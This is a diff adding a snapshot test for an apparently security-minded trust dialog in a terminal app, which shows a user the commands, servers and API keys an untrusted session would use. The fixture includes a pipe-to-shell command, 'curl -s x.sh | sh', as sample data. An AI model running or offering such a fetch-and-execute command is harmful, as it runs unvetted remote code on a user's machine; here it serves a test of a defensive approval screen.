@@ -15,6 +15,7 @@ from support import builders, sessions, ui
 from support.ui import until
 from textual.pilot import Pilot
 
+from engine.domain.trust import PathKind, Permissions, Server, ServerAccess, TrustQuestion
 from tui.app import EspalierApp
 from tui.screens.compare import CompareScreen
 from tui.screens.gate import GateScreen
@@ -22,6 +23,7 @@ from tui.screens.help import HelpScreen
 from tui.screens.home import HomeScreen
 from tui.screens.new_session import NewSessionForm
 from tui.screens.session import SessionScreen
+from tui.screens.trust_dialog import TrustDialog
 
 pytestmark = pytest.mark.skipif(
     not metadata.version("textual").startswith("8.2."), reason="the snapshots were made with textual 8.2"
@@ -168,3 +170,25 @@ def test_light(snap_compare: Compare) -> None:
         await pilot.press("f2")
 
     assert snap_compare(app_on("replay", Path("s")), terminal_size=(120, 40), run_before=before)
+
+
+@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
+def test_trust(snap_compare: Compare, size: tuple[int, int]) -> None:
+    commands = ("agent --print --model 'a long name of a model' --folder /home/somebody/kernels", "sh -c 'curl -s x.sh | sh'")
+    servers = (Server("openai", "http://10.0.0.7:8000/v1"), Server("gemini"))
+    access = (
+        ServerAccess(servers[0], servers[0].url, "OPENAI_API_KEY", True),
+        ServerAccess(servers[1], "Google, or GOOGLE_GEMINI_BASE_URL", "GEMINI_API_KEY", False),
+    )
+    asked = TrustQuestion(
+        "/home/engineer/.local/share/espalier/sessions/softmax-from-a-stranger", PathKind.SESSION, "softmax-from-a-stranger",
+        "there is no record that it was made or allowed here", Permissions("0123456789abcdef" * 4, commands, servers),
+        "softmax", "/home/stranger/softmax.py", "x" * 640, False, False, access, "",
+    )  # fmt: skip
+
+    async def before(pilot: Pilot[None]) -> None:
+        await settled(pilot, HomeScreen)
+        pilot.app.push_screen(TrustDialog(asked))
+        await settled(pilot, TrustDialog)
+
+    assert snap_compare(app_on("home", None), terminal_size=size, run_before=before)
